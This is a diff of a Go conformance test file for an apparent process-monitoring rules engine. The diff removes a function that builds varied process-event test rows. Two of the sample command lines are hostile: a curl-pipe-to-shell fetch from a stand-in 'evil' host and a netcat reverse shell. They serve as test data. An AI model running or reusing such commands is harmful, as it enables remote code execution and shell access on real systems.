@@ -5,77 +5,11 @@ package conformance
 import (
 	"context"
 	"errors"
-	"math"
 	"time"
 
 	"daemoneye/bus/event"
 	"daemoneye/rules/sql"
 )
-
-// dataSet is the rows that the statements are about: NULLs, empty strings,
-// extremes, characters of several bytes, in batches of different sizes.
-func dataSet() []*event.Batch {
-	b := event.NewBuilder(event.Lookup("process_events"))
-	base := time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC)
-	names := []string{"bash", "sh", "curl", "", "python3", "sshd", "naïve", "日本", "a%b", `back\slash`, "Bash", "under_score"}
-	commands := []string{
-		"bash -c 'curl http://evil/x | sh'", "", "/usr/bin/python3 -m http.server 8080", "nc -e /bin/sh 10.0.0.1 4444",
-		"echo héllo wörld", "日本語 テスト", "a\nb\tc", "100% sure", `C:\temp`, "  padded  ", `say "hi", ok`, "x",
-	}
-	var batches []*event.Batch
-	for i := range 40 {
-		b.Column("time").Time(base.Add(time.Duration(i*i) * 7 * time.Minute).Add(time.Duration(i) * 123457 * time.Microsecond))
-		b.Column("event").Text([]string{"seen", "exec", "changed", "exit"}[i%4])
-		b.Column("source").Text("procfs")
-		b.Column("entity_id").Text(string(rune('a'+i%26)) + "-entity")
-		b.Column("pid").Int([]int64{int64(i), 1, 2147483647, -2147483648, 4242}[i%5])
-		if i%3 != 0 {
-			b.Column("ppid").Int(int64(i % 7))
-		}
-		if i%6 != 5 {
-			b.Column("name").Text(names[i%len(names)])
-		}
-		if i%7 != 6 {
-			b.Column("command_line").Text(commands[i%len(commands)])
-		}
-		if i%4 != 3 {
-			b.Column("executable_path").Text("/usr/bin/" + names[(i*5)%len(names)])
-		}
-		if i%5 != 4 {
-			b.Column("user_id").Int([]int64{0, 1000, 65534, math.MaxInt64, math.MinInt64}[i%5])
-			b.Column("user_name").Text([]string{"root", "alice", "nobody", "Ünï"}[i%4])
-		}
-		if i%4 != 1 {
-			b.Column("cpu_usage").Float([]float64{0, 0.1, 99.95, 1e-7, 1.5e15, 123456789.125, -2.25, 2.5, 3.5}[i%9])
-		}
-		if i%6 != 2 {
-			b.Column("memory_usage").Int(int64(i) * 1048576)
-		}
-		if i%2 == 0 {
-			b.Column("start_time").Time(base.Add(-time.Duration(i) * 36 * time.Hour))
-		}
-		if i%8 != 7 {
-			b.Column("ancestors").Texts([][]string{{}, {"/sbin/init"}, {"/usr/sbin/sshd", "/bin/bash"}, {"a,b", `q"x`, ""}, {"NULL", "日本"}}[i%5])
-		}
-		if i%3 == 1 {
-			b.Column("namespaces").JSON([]byte([]string{`{"mnt": 4026531841, "pid": 1}`, `{"b":[1,2,{"c":null}],"aa":"x","a":1.50}`, `{}`, `{"s":"q\"\n\u00e9","t":true}`}[i%4]))
-		}
-		if i%4 == 2 {
-			b.Column("environment_vars").JSON([]byte([]string{`{"PATH":"/bin:/usr/bin","HOME":"/root"}`, `["x","y",3]`, `"str"`}[i%3]))
-		}
-		b.Column("kernel_thread").Bool(i%11 == 0)
-		if i%9 != 8 {
-			b.Column("file_exists").Bool(i%4 != 0)
-		}
-		b.Column("accessible").Bool(i%2 == 0)
-		b.Column("collection_time").Time(base.Add(time.Duration(i) * time.Second))
-		b.EndRow()
-		if i == 0 || i == 16 {
-			batches = append(batches, b.Batch())
-		}
-	}
-	return append(batches, b.Batch())
-}
 
 // memory is a Source of batches.
 type memory []*event.Batch
